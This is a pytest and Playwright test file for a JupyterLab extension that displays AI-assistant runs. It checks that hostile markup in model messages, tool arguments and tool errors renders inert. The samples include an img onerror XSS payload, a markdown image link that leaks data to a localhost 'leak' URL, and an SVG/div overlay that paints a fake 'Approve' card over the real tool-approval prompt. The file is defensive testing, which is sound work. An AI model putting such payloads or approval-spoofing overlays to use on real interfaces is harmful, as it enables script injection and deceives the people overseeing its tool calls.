"""A corpus of hostile markup in message text, annotations, tool arguments, tool outputs and tool
errors, rendered in JupyterLab (Playwright, Debian's chromium), live and from a saved notebook:
nothing executes."""

from __future__ import annotations

import json
import os

import nbformat
import pytest

from ..support.notebooks import execute, make_notebook
from ..support.xss import PAYLOADS

if not os.path.exists("/usr/bin/chromium"):
    pytest.skip("Debian's chromium is not installed (apt-get install chromium); .ci/run installs it",
                allow_module_level=True)

from playwright.sync_api import sync_playwright  # noqa: E402

from ..support.jupyterlab import (  # noqa: E402
    assert_links_inert,
    launch_page,
    open_notebook,
    run_all_cells,
    screenshot,
    wait_for_approvals,
    wait_for_badges,
)

assert len(PAYLOADS) >= 30


# a remote image, an SVG link and an area, alone in a message (in the corpus's message, an earlier
# payload's unclosed HTML block holds them as text)
ALONE = ("look: ![chart](http://127.0.0.1:9/leak?d=tool-output)\n\n"
         '<svg><a href="http://127.0.0.1:9/navigate"><text y="20">svg link</text></a></svg>\n\n'
         '<map name="m"><area shape="default" href="http://127.0.0.1:9/navigate"></map>')


def _cells() -> list[str]:
    calls = "\n".join(f"/call get_weather {json.dumps({'city': p})}" for p in PAYLOADS)
    errors = "\n".join(f"/call broken {json.dumps({'city': p})}" for p in PAYLOADS[:8])
    return [
        "from oairun_jupyter import configure, oai_create_assistant, oai_create_thread_and_run, tool\n"
        "from oairun_jupyter.server import start_local_server\n"
        "server = start_local_server(pace=0.001)\nconfigure(base_url=server.base_url)\n"
        "def get_weather(city: str) -> str:\n    return city\n"
        "def broken(city: str) -> str:\n    raise ValueError(city)\n"
        "assistant = oai_create_assistant('scripted', name='<img src=x onerror=window.__pwned++>',"
        " tools=[tool(get_weather), tool(broken)])",
        f"PAYLOADS = {PAYLOADS!r}\n"
        "text = oai_create_thread_and_run(assistant, thread={'messages': ['\\n\\n'.join(PAYLOADS)]}, stream=True)\ntext",
        "cite = oai_create_thread_and_run(assistant, thread={'messages': ['/cite ' + PAYLOADS[1]]}, stream=True)\ncite",
        f"tools = oai_create_thread_and_run(assistant, thread={{'messages': [{calls!r}]}}, stream=True)\ntools",
        f"errors = oai_create_thread_and_run(assistant, thread={{'messages': [{errors!r}]}}, stream=True)\nerrors",
        f"image = oai_create_thread_and_run(assistant, thread={{'messages': [{ALONE!r}]}}, stream=True)\nimage",
    ]




def _assert_nothing_ran(page) -> None:
    outputs = ".jp-OutputArea-output"
    assert_links_inert(page, f"{outputs} .oairun-run")
    for summary in page.locator(f"{outputs} .oairun-run summary").all()[:20]:
        summary.click(timeout=5000)  # opening a details element fires its toggle handlers, if any survived
    page.wait_for_timeout(800)
    assert page.evaluate("window.__pwned") == 0 and page.dialogs == []
    for selector in ("script", "iframe", "object", "embed", "[onerror]", "[onload]", "[onfocus]", "[ontoggle]",
                     "[onstart]", "base", "meta", "form", "a[href^='javascript' i]", "[style*='url' i]",
                     "[style*='javascript' i]"):
        found = page.locator(f"{outputs} .oairun-run {selector}")
        assert found.count() == 0, (selector, [found.nth(i).evaluate("e => e.outerHTML.slice(0, 200)")
                                               for i in range(min(found.count(), 3))])


def test_hostile_output_runs_nothing_live_and_from_a_saved_notebook(lab):
    name = lab.add("hostile.ipynb", nbformat.writes(make_notebook(*_cells())))
    with sync_playwright() as playwright:
        context, page = launch_page(playwright)
        leaks = []  # the corpus's remote loads and links all point at 127.0.0.1:9
        page.on("request", lambda request: leaks.append(request.url) if ":9/" in request.url else None)
        open_notebook(page, lab, name)
        notebook_url = page.url
        run_all_cells(page)
        wait_for_badges(page, "completed", 5, timeout=120_000)
        screenshot(page, "hostile-live")
        assert leaks == [], "a remote resource loaded without a click"
        for link in page.locator(".jp-OutputArea-output .oairun-body a").all()[:10]:
            link.click(modifiers=[], timeout=5000)  # a new tab at most: the notebook's tab stays
        assert page.url == notebook_url
        placeholder = page.locator(".jp-OutputArea-output .oairun-image-load:not([disabled])").first
        placeholder.click()  # the user asks for the image: now, and only now, it is requested
        for _ in range(100):  # up to 10 s for the request to be made
            if any("/leak?d=tool-output" in url for url in leaks):
                break
            page.wait_for_timeout(100)
        assert any("/leak?d=tool-output" in url for url in leaks), leaks
        cards = page.locator(".jp-OutputArea-output .oairun-tool")
        assert cards.count() >= len(PAYLOADS) + 8
        shown = page.locator(".jp-OutputArea-output .oairun-tool .oairun-tool-args").all_text_contents()
        assert any(PAYLOADS[0] in text for text in shown)  # shown as text
        _assert_nothing_ran(page)
        context.close()

    saved = execute(make_notebook(*_cells()))
    name = lab.add("hostile-saved.ipynb", nbformat.writes(saved), trusted=True)  # trusted: HTML outputs render raw
    with sync_playwright() as playwright:
        context, page = launch_page(playwright)
        open_notebook(page, lab, name)
        wait_for_badges(page, "completed", 5, timeout=120_000)
        screenshot(page, "hostile-saved")
        _assert_nothing_ran(page)
        context.close()


# A message written before the call it asks approval for, drawing a fake card over the real one.
# Its tool name is cut off from the
# arguments, or the scripted model would call it.
OVERLAY = ('<svg width="1" height="1" overflow="visible" style="position:fixed;top:0;left:0;z-index:99999" '
           'pointer-events="all"><foreignObject x="0" y="0" width="3000" height="3000"><div '
           'style="background:white;width:3000px;height:3000px"><b>get_weather</b> {"city": "Paris"} '
           '<button>Approve</button></div></foreignObject></svg>'
           '<div style="position:fixed;inset:0;z-index:99999;background:white">fake card <button>Approve</button></div>')
BIDI_CITY = "Paris\u202e\u2066evil\u2069"  # a right-to-left override: the card must show it as escapes


def _center_hits(page, button) -> bool:
    """Whether the point at the middle of `button` belongs to it (nothing painted over it)."""
    box = button.bounding_box()
    x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    return button.evaluate("(b, [x, y]) => b.contains(document.elementFromPoint(x, y))", [x, y])


def test_a_message_cannot_cover_the_approval_card_and_what_is_shown_is_what_runs(lab):
    name = lab.add("overlay.ipynb", nbformat.writes(make_notebook(
        "%load_ext oairun_jupyter\nran = []\n"
        "def get_weather(city: str) -> str:\n    '''The weather.'''\n    ran.append(city)\n"
        "    return f'ran with {city!r}'",
        f'%%oai_run --tools get_weather --background --confirm --out pending\n/say {OVERLAY}\n'
        f'get_weather {{"city": "Paris"}} get_weather {{"city": "{BIDI_CITY}"}}')))
    with sync_playwright() as playwright:
        context, page = launch_page(playwright, 1200, 1000)
        open_notebook(page, lab, name)
        run_all_cells(page)
        wait_for_approvals(page, 2)
        screenshot(page, "overlay-pending")
        message = page.locator(".jp-OutputArea-output .oairun-assistant .oairun-body").first
        # the message is there, as text in its box: no control, no SVG, no style
        assert message.text_content().strip() == "fake card Approve" and message.locator("button").count() == 0
        assert page.locator(".jp-OutputArea-output .oairun-body svg, .jp-OutputArea-output .oairun-body [style]"
                            ).count() == 0
        cards = page.locator(".jp-OutputArea-output .oairun-tool")
        assert cards.count() == 2
        first, second = cards.nth(0), cards.nth(1)
        assert json.loads(first.locator(".oairun-tool-args").text_content()) == {"city": "Paris"}
        shown = second.locator(".oairun-tool-args").text_content()
        assert "\\u{202E}" in shown and "\\u{2066}" in shown and "\u202e" not in shown, shown
        for card in (first, second):
            for label in ("Approve", "Reject"):
                button = card.get_by_role("button", name=label, exact=True)
                button.scroll_into_view_if_needed()
                assert _center_hits(page, button), f"something is painted over {label}"
        approve = first.get_by_role("button", name="Approve", exact=True)
        box = approve.bounding_box()
        page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)  # a click where the user sees it
        reject = second.get_by_role("button", name="Reject", exact=True)
        box = reject.bounding_box()
        page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        wait_for_badges(page, "completed", timeout=60_000)
        assert first.locator(".oairun-output pre").first.text_content() == "ran with 'Paris'"
        assert second.locator(".oairun-tool-status").text_content() == "refused"
        screenshot(page, "overlay-done")
        assert page.evaluate("window.__pwned") == 0 and page.dialogs == []
        context.close()


def test_deep_and_huge_messages_render_as_text_and_the_tool_cards_still_appear(lab):
    name = lab.add("huge.ipynb", nbformat.writes(make_notebook(
        "%load_ext oairun_jupyter\n"
        "def get_weather(city: str) -> str:\n    '''The weather.'''\n    return f'sunny in {city}'",
        '%%oai_run --tools get_weather --out deep\n/repeat 3000 >\nget_weather {"city": "Rome"}',
        '%%oai_run --tools get_weather --out huge\n/repeat 10000000 x\nget_weather {"city": "Oslo"}')))
    with sync_playwright() as playwright:
        context, page = launch_page(playwright)
        open_notebook(page, lab, name)
        run_all_cells(page)
        wait_for_badges(page, "completed", 2, timeout=120_000)
        screenshot(page, "huge-messages")
        runs = page.locator(".jp-OutputArea-output .oairun-run")
        for index, city, reason in ((0, "Rome", "nested deeper than 32 levels"),
                                    (1, "Oslo", "longer than 100,000 characters")):
            run = runs.nth(index)
            assert f"sunny in {city}" in run.locator(".oairun-tool .oairun-output pre").first.text_content()
            written = run.locator(".oairun-assistant .oairun-body").first
            assert reason in written.locator(".oairun-plain-note").text_content()
            assert written.locator("blockquote").count() == 0
        deep = runs.nth(0).locator(".oairun-assistant .oairun-plain").first.text_content()
        huge = runs.nth(1).locator(".oairun-assistant .oairun-plain").first.text_content()
        assert deep == ">" * 3000 and huge == "x" * 1_000_000
        assert runs.nth(1).locator(".oairun-assistant .oairun-body").last.text_content().strip() == \
            "get_weather returned: sunny in Oslo"
        context.close()
